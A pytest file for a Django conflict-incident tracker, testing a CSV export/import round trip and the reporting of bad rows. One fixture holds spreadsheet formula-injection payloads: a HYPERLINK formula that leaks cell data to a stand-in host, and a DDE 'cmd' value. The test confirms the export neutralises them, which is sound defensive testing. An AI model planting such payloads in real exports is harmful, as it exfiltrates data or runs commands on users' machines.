"""Our own CSV (the columns of the incident list's and export's `format=csv`): an export
imports into another tracker, or an empty one, as the same incidents; bad rows are named."""

import io
from datetime import UTC, datetime

import pytest
from django.core.management import call_command

from tests.factories import IncidentFactory, PlaceFactory
from tests.test_importers import run
from tracker.models import Incident, Party, Place

pytestmark = pytest.mark.django_db


def test_tracker_csv_round_trip_into_an_empty_database(roles, client_for, tmp_path):
    from tests.factories import PartyFactory
    from tracker.models import Assessment, IncidentProvenance

    reviewer = client_for("reviewer")
    town = PlaceFactory(name="Maaret al-Numan", latitude=35.6476, longitude=36.6736)
    other = PlaceFactory(name="Saraqib", latitude=35.8641, longitude=36.8006)
    forces = PartyFactory(name="Syrian Arab Army")
    IncidentFactory(
        title="Window",
        place=town,
        perpetrator=forces,
        attribution="alleged",
        time_precision="interval",
        occurred_at=datetime(2020, 1, 14, 22, tzinfo=UTC),
        occurred_until=datetime(2020, 1, 16, 22, tzinfo=UTC),
        killed_low=3,
        killed_high=None,
        civilians_killed_low=1,
        civilians_killed_high=2,
        description="Two days of shelling.\nHomes hit.",
        confidence="fair",
        status="draft",
        origin_latitude=35.7,
        origin_longitude=36.7,
        origin_geo_precision="near",
    )
    IncidentFactory(
        title="Point",
        place=other,
        latitude=35.87,
        longitude=36.81,
        geo_precision="exact",
        target_description="A bakery",
        origin_place=town,
        origin_geo_precision="town",
    )
    IncidentFactory(
        title="From ACLED",
        place=other,
        external_source="acled",
        external_id="SYR1",
        kind="armed_clash",
        status="disputed",
        perpetrator=forces,
        attribution="alleged",
        target_party=PartyFactory(name="Hayat Tahrir al Sham"),
        initiator="unknown",
    )
    # Text a spreadsheet would run: the export neutralises it ('=...), the import reads it back.
    IncidentFactory(
        title='=HYPERLINK("http://x.example/?leak="&A1,"Shelling")',
        description="-2+3",
        target_description="'Tis a school",
        place=PlaceFactory(name="@SUM(1+1)", latitude=36.1, longitude=36.9),
        perpetrator=PartyFactory(name="+cmd|' /C calc'!A0"),
        attribution="alleged",
    )
    call_command("recompute_provenance", stdout=io.StringIO())  # factories bypass the services
    originals = {i["title"]: i for i in reviewer.get("/api/v1/incidents/").json()["results"]}
    exported = reviewer.get("/api/v1/incidents/export/", {"format": "csv"})
    path = tmp_path / "incidents.csv"
    path.write_bytes(b"".join(exported.streaming_content))

    for model in (Assessment, IncidentProvenance, Incident, Place, Party):
        model._base_manager.all().delete()
    assert run("csv", path) == ["4 rows: 4 created, 0 updated, 0 unchanged, 0 skipped, 0 failed"]

    ignored = {
        "id",
        "citation_ids",
        "report_ids",
        "assessments",
        "version",
        "created_at",
        "updated_at",
        "external_source",
        "external_id",
    }
    parties = {"place", "perpetrator", "target_party", "origin_place", "origin_latitude", "origin_longitude"}
    for item in reviewer.get("/api/v1/incidents/").json()["results"]:
        before = originals[item["title"]]
        assert {k: v for k, v in item.items() if k not in ignored | parties} == {
            k: v for k, v in before.items() if k not in ignored | parties
        }
        assert (item["target_party"] or {}).get("name") == (before["target_party"] or {}).get("name")
        # An origin comes back as its point: its own, else its place's.
        origin = before["origin_place"] or {}
        assert (item["origin_latitude"], item["origin_longitude"]) == (
            before["origin_latitude"] or origin.get("latitude"),
            before["origin_longitude"] or origin.get("longitude"),
        )
        assert {k: item["place"][k] for k in ("name", "latitude", "longitude")} == {
            k: before["place"][k] for k in ("name", "latitude", "longitude")
        }
        assert (item["perpetrator"] or {}).get("name") == (before["perpetrator"] or {}).get("name")
        expected = (before["external_source"], before["external_id"]) if before["external_id"] else ("csv", str(before["id"]))
        assert (item["external_source"], item["external_id"]) == expected
    assert Place.objects.count() == 3  # both incidents at Saraqib share one place
    assert Incident.objects.get(title="From ACLED").initiator == "unknown"
    assert run("csv", path)[0] == "4 rows: 0 created, 0 updated, 4 unchanged, 0 skipped, 0 failed"


def test_tracker_csv_bad_rows(db, tmp_path):
    path = tmp_path / "incidents.csv"
    path.write_text(
        "id,title,kind,occurred_at,time_precision,place.name,status\n"
        "1,No offset,airstrike,2020-01-15T08:00:00,hour,Idlib,draft\n"
        "2,Bad kind,bombing,2020-01-15T08:00:00Z,hour,Idlib,draft\n"
        "3,Bad status,airstrike,2020-01-15T08:00:00Z,hour,Idlib,published\n"
    )
    assert run("csv", path) == [
        "3 rows: 0 created, 0 updated, 0 unchanged, 0 skipped, 3 failed",
        "  failed row 2: occurred_at: '2020-01-15T08:00:00' has no UTC offset.",
        "  failed row 3: kind: Value 'bombing' is not a valid choice.",
        "  failed row 4: status: 'published' is not one of draft, in_review, verified, disputed, rejected.",
    ]
    assert not Place.objects.filter(name="Idlib").exists()
